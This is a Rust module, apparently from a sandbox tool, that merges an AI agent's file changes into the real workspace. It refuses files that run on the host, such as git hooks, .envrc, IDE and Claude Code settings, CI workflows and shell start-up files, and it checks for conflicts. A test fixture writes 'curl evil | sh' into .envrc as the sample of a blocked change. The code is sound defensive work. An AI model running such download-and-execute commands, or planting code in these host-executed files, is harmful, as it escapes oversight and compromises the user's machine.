//! Landing an agent's changes in the real workspace: files that would execute on the host are
//! refused unless allowed, host edits made during the session are conflicts, and every file is
//! replaced atomically (temp file + rename).

use std::fs;
use std::os::unix::fs::{symlink, MetadataExt, PermissionsExt};
use std::path::{Component, Path, PathBuf};

use crate::changes::{Change, ChangeKind};
use crate::SessionError;

/// Why a path executes on the host (`None` if it does not).
pub fn exec_reason(path: &Path) -> Option<&'static str> {
    let s = path.to_string_lossy();
    let name = path
        .file_name()
        .map(|n| n.to_string_lossy())
        .unwrap_or_default();
    if s.starts_with(".git/hooks/") {
        return Some("git hooks run on the host at the next git command");
    }
    if s == ".git/config" || s.starts_with(".git/info/") || s == ".git/config.worktree" {
        return Some(
            "git configuration can run programs (core.fsmonitor, core.pager, aliases, filters)",
        );
    }
    if name == ".envrc" || name == ".env.local" {
        return Some("direnv runs it when you enter the directory");
    }
    if s.starts_with(".vscode/")
        && matches!(
            name.as_ref(),
            "tasks.json" | "settings.json" | "launch.json" | "extensions.json"
        )
    {
        return Some("VS Code runs tasks and settings from it");
    }
    if s.starts_with(".idea/") {
        return Some("JetBrains IDEs run configurations from it");
    }
    if s.starts_with(".claude/") && name.starts_with("settings") && name.ends_with(".json") {
        return Some("Claude Code settings can run hooks and commands on the host");
    }
    if s.starts_with(".github/workflows/") || s.starts_with(".gitlab-ci") {
        return Some("CI workflows run with the repository's secrets");
    }
    if s == ".gitattributes" || s == ".gitmodules" {
        return Some("git filters and submodule URLs are followed on the host");
    }
    if matches!(
        name.as_ref(),
        ".bashrc"
            | ".bash_profile"
            | ".bash_login"
            | ".profile"
            | ".zshrc"
            | ".zprofile"
            | ".zshenv"
            | ".zlogin"
            | ".inputrc"
    ) {
        return Some("shell start-up files run in every new shell");
    }
    None
}

/// Repository internals (objects, refs, index, logs): not merged as files; new commits are
/// fetched into a branch instead.
pub fn is_git_internal(path: &Path) -> bool {
    path.starts_with(".git") && exec_reason(path).is_none()
}

/// The outcome of a merge.
#[derive(Debug, Default)]
pub struct MergeReport {
    pub applied: Vec<Change>,
    pub refused: Vec<(Change, &'static str)>,
}

/// A path that is safe to join under a root: relative, no `..`.
fn safe_rel(p: &Path) -> bool {
    p.components().all(|c| matches!(c, Component::Normal(_)))
}

/// Conflicts: host paths changed after `since` (seconds since the epoch) that the agent changed
/// too, and paths the agent added that the host has created meanwhile.
pub fn conflicts(workspace: &Path, changes: &[Change], since: i64) -> Vec<PathBuf> {
    changes
        .iter()
        .filter(|c| {
            let host = workspace.join(&c.path);
            match fs::symlink_metadata(&host) {
                Ok(m) => match c.kind {
                    ChangeKind::Added => !c.dir,
                    _ => m.mtime() > since || m.ctime() > since,
                },
                // Deleted on the host meanwhile while the agent modified it.
                Err(_) => c.kind == ChangeKind::Modified,
            }
        })
        .map(|c| c.path.clone())
        .collect()
}

/// Applies `changes` from `upper` to `workspace`. Paths that execute on the host are refused
/// unless `allow_exec`; nothing is written when there are refusals and `allow_exec` is off
/// (all or nothing). The caller checks conflicts first.
pub fn apply(
    workspace: &Path,
    upper: &Path,
    changes: &[Change],
    allow_exec: bool,
) -> Result<MergeReport, SessionError> {
    let mut report = MergeReport::default();
    for c in changes {
        if !safe_rel(&c.path) {
            return Err(SessionError::Refused(format!(
                "refusing the unsafe path {}",
                c.path.display()
            )));
        }
        if let (Some(why), false) = (exec_reason(&c.path), allow_exec) {
            report.refused.push((c.clone(), why));
        }
    }
    if !report.refused.is_empty() {
        return Ok(report);
    }
    for c in changes {
        if is_git_internal(&c.path) {
            continue;
        }
        let dst = workspace.join(&c.path);
        match c.kind {
            ChangeKind::Deleted => {
                let r = if c.dir {
                    fs::remove_dir_all(&dst)
                } else {
                    fs::remove_file(&dst)
                };
                match r {
                    Ok(()) => {}
                    Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
                    Err(e) => return Err(SessionError::io("cannot delete", &dst, e)),
                }
            }
            ChangeKind::Added | ChangeKind::Modified => {
                let src = upper.join(&c.path);
                copy_in(&src, &dst, c.dir)?;
            }
        }
        report.applied.push(c.clone());
    }
    Ok(report)
}

fn copy_in(src: &Path, dst: &Path, dir: bool) -> Result<(), SessionError> {
    let m = fs::symlink_metadata(src).map_err(|e| SessionError::io("cannot read", src, e))?;
    if let Some(parent) = dst.parent() {
        fs::create_dir_all(parent).map_err(|e| SessionError::io("cannot create", parent, e))?;
    }
    if dir || m.is_dir() {
        if fs::symlink_metadata(dst).is_ok_and(|d| !d.is_dir()) {
            fs::remove_file(dst).map_err(|e| SessionError::io("cannot replace", dst, e))?;
        }
        return fs::create_dir_all(dst).map_err(|e| SessionError::io("cannot create", dst, e));
    }
    let tmp = dst.with_file_name(format!(
        ".{}.airlock-merge",
        dst.file_name()
            .map(|n| n.to_string_lossy())
            .unwrap_or_default()
    ));
    let _ = fs::remove_file(&tmp);
    if m.file_type().is_symlink() {
        let target = fs::read_link(src).map_err(|e| SessionError::io("cannot read", src, e))?;
        symlink(&target, &tmp).map_err(|e| SessionError::io("cannot write", &tmp, e))?;
    } else {
        fs::copy(src, &tmp).map_err(|e| SessionError::io("cannot write", &tmp, e))?;
        let mode = m.permissions().mode() & 0o777;
        fs::set_permissions(&tmp, fs::Permissions::from_mode(mode))
            .map_err(|e| SessionError::io("cannot set mode of", &tmp, e))?;
        fs::File::open(&tmp)
            .and_then(|f| f.sync_all())
            .map_err(|e| SessionError::io("cannot sync", &tmp, e))?;
    }
    if fs::symlink_metadata(dst).is_ok_and(|d| d.is_dir()) {
        fs::remove_dir_all(dst).map_err(|e| SessionError::io("cannot replace", dst, e))?;
    }
    fs::rename(&tmp, dst).map_err(|e| SessionError::io("cannot write", dst, e))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exec_files_are_recognised() {
        for p in [
            ".git/hooks/pre-commit",
            ".git/config",
            ".envrc",
            "sub/.envrc",
            ".vscode/tasks.json",
            ".claude/settings.local.json",
            ".github/workflows/ci.yml",
            ".bashrc",
        ] {
            assert!(exec_reason(Path::new(p)).is_some(), "{p}");
        }
        for p in [
            "src/main.rs",
            "README.md",
            ".github/CODEOWNERS",
            "docs/.vscode.md",
        ] {
            assert!(exec_reason(Path::new(p)).is_none(), "{p}");
        }
    }

    #[test]
    fn refused_changes_block_the_whole_merge_unless_allowed() {
        let t = tempfile::tempdir().expect("tempdir");
        let (ws, up) = (t.path().join("ws"), t.path().join("up"));
        fs::create_dir_all(&ws).expect("mkdir");
        fs::create_dir_all(&up).expect("mkdir");
        fs::write(up.join("ok.txt"), "ok").expect("write");
        fs::write(up.join(".envrc"), "curl evil | sh").expect("write");
        let ch = vec![
            Change {
                path: ".envrc".into(),
                kind: ChangeKind::Added,
                dir: false,
            },
            Change {
                path: "ok.txt".into(),
                kind: ChangeKind::Added,
                dir: false,
            },
        ];
        let r = apply(&ws, &up, &ch, false).expect("apply");
        assert_eq!(r.refused.len(), 1);
        assert!(r.applied.is_empty());
        assert!(!ws.join("ok.txt").exists() && !ws.join(".envrc").exists());
        let r = apply(&ws, &up, &ch, true).expect("apply");
        assert_eq!(r.applied.len(), 2);
        assert_eq!(fs::read_to_string(ws.join("ok.txt")).expect("read"), "ok");
    }

    #[test]
    fn host_edits_after_the_start_conflict() {
        let t = tempfile::tempdir().expect("tempdir");
        fs::write(t.path().join("f.txt"), "host").expect("write");
        let ch = vec![Change {
            path: "f.txt".into(),
            kind: ChangeKind::Modified,
            dir: false,
        }];
        assert!(conflicts(t.path(), &ch, i64::MAX).is_empty());
        assert_eq!(conflicts(t.path(), &ch, 0), vec![PathBuf::from("f.txt")]);
    }
}
